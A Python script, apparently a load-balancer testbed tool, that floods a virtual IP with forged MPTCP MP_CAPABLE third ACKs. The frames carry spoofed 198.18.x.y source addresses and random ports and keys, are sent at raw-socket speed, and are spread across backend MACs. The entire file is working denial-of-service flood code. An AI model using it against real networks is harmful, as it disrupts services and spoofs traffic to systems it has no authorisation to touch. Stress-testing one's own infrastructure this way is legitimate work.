#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
# Forged MP_CAPABLE third ACKs, as fast as a raw socket sends them: random
# source addresses and ports, random keys, to VIP:PORT through the router.
# Usage: flood.py IFACE DST_MAC[,DST_MAC...] VIP PORT COUNT
# (in the router's namespace on br0, with the LB hosts' MACs: frames are
# spread over them as ECMP would, and no client uplink shaping slows them).
# Prints "sent N in S s".
import os, socket, struct, sys, time

iface, dst_mac, vip, port, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
src_mac = open("/sys/class/net/%s/address" % iface).read().strip()
macs = [bytes.fromhex(m.replace(":", "")) for m in dst_mac.split(",")]
eth = macs[0] + bytes.fromhex(src_mac.replace(":", "")) + b"\x08\x00"
opt = bytes([30, 20, 0x01, 0x01]) + bytes(16)        # MP_CAPABLE v1, both keys (filled per frame)
tcp_len = 20 + len(opt)
ip = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + tcp_len, 0, 0x4000, 64, 6, 0,
                           b"\0\0\0\0", socket.inet_aton(vip)))
tcp = bytearray(struct.pack("!HHIIBBHHH", 0, port, 1, 1, (tcp_len // 4) << 4, 0x10, 502, 0, 0)) + opt
def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), bytes(b)))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return s
# The router checks the IPv4 header checksum: the one of 198.18.0.0 as source,
# then per frame the variable 16 bits of the source added in (RFC 1624).
ip[12:14] = b"\xc6\x12"
base = csum(ip)
frame = bytearray(eth + ip + tcp)
IP, TCP = 14, 34
rnd = os.urandom(count * 24)
t0 = time.time()
sent = 0
for i in range(count):
    r = rnd[i * 24:(i + 1) * 24]
    frame[0:6] = macs[r[20] % len(macs)]
    frame[IP + 14:IP + 16] = r[0:2]                        # 198.18.x.y: sources nobody owns
    c = base + (r[0] << 8 | r[1])
    c = (c & 0xffff) + (c >> 16)
    c = ~((c & 0xffff) + (c >> 16)) & 0xffff
    frame[IP + 10] = c >> 8
    frame[IP + 11] = c & 0xff
    frame[TCP:TCP + 2] = r[2:4]                           # source port
    frame[TCP + 24:TCP + 40] = r[4:20]                     # key A, key B
    try:
        s.send(frame)
        sent += 1
    except BlockingIOError:
        pass
print("sent %d in %.2f s" % (sent, time.time() - t0), flush=True)
